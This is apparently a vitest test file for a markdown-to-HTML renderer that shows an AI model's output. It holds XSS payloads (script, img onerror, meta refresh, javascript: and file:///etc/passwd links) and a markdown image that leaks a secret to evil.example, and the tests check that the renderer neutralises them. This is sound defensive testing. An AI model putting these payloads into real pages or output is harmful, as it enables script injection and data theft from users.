import { describe, expect, it } from "vitest";
import { markdownHtml } from "../../../src/webview/markdown/markdown-html";

describe("a model's markdown", () => {
  it.each([
    ["a script", "<script>alert(1)</script>"],
    ["a picture tag", "<img src=https://evil.example/x onerror=alert(1)>"],
    ["a style", "<style>body{display:none}</style>"],
    ["a refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
    ["a tag in the middle of words", "hello <b onclick=alert(1)>there</b>"],
  ])("shows %s as the text that it is", (_what, source) => {
    const html = markdownHtml(source);
    expect(html).not.toMatch(/<(script|img|style|meta|b)\b/);
    expect(html).toContain("&lt;");
  });

  it.each([
    ["quotations", `${"> ".repeat(300)}the text\n> ${"> ".repeat(299)}goes on`],
    ["lists", `${"- ".repeat(300)}the text\n${"  ".repeat(300)}goes on`],
  ])("loses nothing of what stands in the deepest %s", (_what, source) => {
    const html = markdownHtml(source);
    expect(html).toContain("the text");
    expect(html).toContain("goes on");
  });

  it("shows a picture's words and never its address", () => {
    const html = markdownHtml(
      "![a secret](https://evil.example/?d=secret) and ![x][1]\n\n[1]: https://evil.example/y",
    );
    expect(html).toContain("a secret");
    expect(html).not.toMatch(/img|evil/);
  });

  it.each([
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,x",
    "vbscript:x",
    "file:///etc/passwd",
    "command:thinkaloud.accept",
    "http://plain.example",
    "//evil.example",
    "src/other.py",
  ])("a link to %s is only its words", (href) => {
    const html = markdownHtml(`Click [the words](<${href}>) now`);
    expect(html).toContain("Click the words now");
    expect(html).not.toMatch(/<a|href/);
  });

  it("an https link says which host it leads to, also when its words pretend another", () => {
    const html = markdownHtml("See [https://good.example](https://evil.example/path)");
    expect(html).toContain('href="https://evil.example/path"');
    expect(html).toContain('<span class="host">(evil.example)</span>');
  });

  it.each([
    "https://good.example/login?from=evil.example",
    "good.example.evil.example",
    "https://good.example@evil.example/",
  ])("the host is also said behind words that only hold its name: %s", (words) => {
    expect(markdownHtml(`[${words}](https://evil.example/path)`)).toContain(
      '<span class="host">(evil.example)</span>',
    );
  });

  it("a host in look-alike letters shows its real name", () => {
    expect(markdownHtml("[bank](https://b\u0430nk.example/)")).toContain("(xn--");
  });

  it("an address that stands for itself is not said twice, and bare addresses are no links", () => {
    expect(markdownHtml("<https://docs.example/x>")).not.toContain('class="host"');
    expect(markdownHtml("https://docs.example/x")).not.toContain("<a");
  });

  it("the language of a code block cannot carry anything but a name", () => {
    expect(markdownHtml('```py"><img src=x>\ncode\n```')).toContain(
      '<pre data-language="py"><code>code',
    );
    expect(markdownHtml("```c++\n<b>\n```")).toContain('<pre data-language="c++"><code>&lt;b&gt;');
  });
});
